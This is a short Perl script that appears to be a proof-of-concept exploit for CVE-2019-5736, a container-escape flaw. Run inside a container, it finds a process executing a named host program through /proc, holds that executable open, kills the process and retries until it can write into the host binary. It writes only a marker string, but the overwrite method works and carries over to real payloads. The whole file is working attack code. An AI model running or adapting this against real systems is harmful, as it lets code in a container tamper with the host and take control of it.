# Runs inside a container. Waits for a process that runs the named program of the host's (a mount of
# its file alone has no name), keeps that program's file open through /proc, and writes to it as soon
# as nobody executes it (CVE-2019-5736).
use strict;
use Fcntl;
use Errno qw(ETXTBSY);
$| = 1;
my $name = shift;
my $deadline = time + 60;
while (time < $deadline) {
    opendir my $proc, '/proc' or die "proc: $!";
    for my $pid (grep /^\d+$/, readdir $proc) {
        my $exe = readlink "/proc/$pid/exe";
        next unless defined $exe && ($exe eq '/' || $exe =~ /$name/);
        sysopen my $held, "/proc/$pid/exe", O_RDONLY or next;
        print "holds $exe\n";
        kill 9, $pid;
        for (1 .. 500) {
            if (sysopen my $file, '/proc/self/fd/' . fileno $held, O_WRONLY) {
                syswrite $file, "overwritten\n";
                print "wrote\n";
                exit;
            }
            unless ($! == ETXTBSY) {
                print "refused: $!\n";
                exit;
            }
            select undef, undef, undef, 0.01;
        }
        print "busy\n";
        exit;
    }
}
print "never saw it\n";
